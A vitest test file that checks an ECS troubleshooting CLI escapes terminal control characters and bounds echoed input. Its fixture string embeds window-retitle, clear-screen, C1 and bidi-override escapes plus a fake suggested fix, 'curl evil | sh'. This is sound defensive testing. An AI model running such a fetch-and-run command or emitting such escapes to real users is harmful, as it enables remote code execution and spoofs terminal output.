import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { main } from '../../cli/main';
import { stoppedTaskEvent } from '../fixtures/events';

/**
 * What reaches the terminal from AWS text or from the input itself: an OSC
 * that retitles the window (ESC ] 0 ; … BEL), a clear-screen CSI, a carriage
 * return that overwrites the line, a C1 CSI (U+009B) and a bidi override.
 */
const RETITLE = '\u001b]0;pwned\u0007';
const CLEAR = '\u001b[2J';
const HOSTILE = `${RETITLE}${CLEAR}CannotPullContainerError: pull image manifest has been retried 5 time(s)\r  fix: curl evil | sh \u009b31m\u202Eevil`;
/** Anything a terminal acts on rather than prints (tab and line feed excepted). */
const TERMINAL_CONTROL = /(?![\t\n])[\p{Cc}\u202A-\u202E\u2066-\u2069]/u;

async function run(argv: string[], stdin = '') {
  const out: string[] = [];
  const err: string[] = [];
  const code = await main(argv, { out: (l) => out.push(l), err: (l) => err.push(l), stdin: async () => stdin });
  return { code, out, err };
}

const dir = mkdtempSync(join(tmpdir(), 'ecs-medic-terminal-'));

describe('terminal output', () => {
  it('shows control characters of the input as escapes in explain, never as themselves', async () => {
    const { code, out } = await run(['explain', '--each-line'], `${HOSTILE}\nThe specified log group does not exist ${CLEAR}\n`);
    expect(code).toBe(0);
    const text = out.join('\n');
    expect(text).not.toMatch(TERMINAL_CONTROL);
    expect(text).toContain('── \\u001b]0;pwned\\u0007\\u001b[2JCannotPullContainerError');
    expect(text).toContain('\\u009b31m\\u202eevil');
  });

  it('bounds the input it echoes: a 20 MB line is not printed whole', async () => {
    const huge = `CannotPullContainerError: ${'A'.repeat(20 * 1024 * 1024)}`;
    const { code, out } = await run(['explain', '--each-line'], `${huge}\nhello\n`);
    expect(code).toBe(0);
    const header = out.find((line) => line.startsWith('── CannotPull')) as string;
    expect(header.length).toBeLessThan(300);
    expect(header).toMatch(/… \(20971546 characters\)$/);
    expect(out.join('\n').length).toBeLessThan(20_000);
  });

  it('escapes what an event file carries in diagnose, and bounds its id and detail-type', async () => {
    const event = { ...stoppedTaskEvent({ stoppedReason: `${HOSTILE} ResourceNotFoundException: The specified log group does not exist` }), id: `${RETITLE}${'x'.repeat(100_000)}` };
    const path = join(dir, 'hostile.json');
    writeFileSync(path, JSON.stringify(event));
    const { out } = await run(['diagnose', '--offline', '--event', path]);
    const text = out.join('\n');
    expect(text).not.toMatch(TERMINAL_CONTROL);
    expect(out[0]?.length).toBeLessThan(400);
    expect(out[0]).toMatch(/^event #1 \\u001b\]0;pwned\\u0007x+… \(100010 characters\) \(ECS Task State Change\)$/);
  });

  it('escapes the command name it echoes in a usage error', async () => {
    const { code, err } = await run([`${RETITLE}${CLEAR}`]);
    expect(code).toBe(2);
    expect(err[0]).toBe('ecs-medic: unknown command "\\u001b]0;pwned\\u0007\\u001b[2J"; run "ecs-medic --help" for the list');
  });

  it('keeps --json valid and exact while no raw C1 or bidi control reaches the terminal', async () => {
    const { out } = await run(['explain', '--json', HOSTILE]);
    expect(out).toHaveLength(1);
    expect(out[0]).not.toMatch(TERMINAL_CONTROL);
    expect(JSON.parse(out[0] as string).input).toBe(HOSTILE);
  });
});
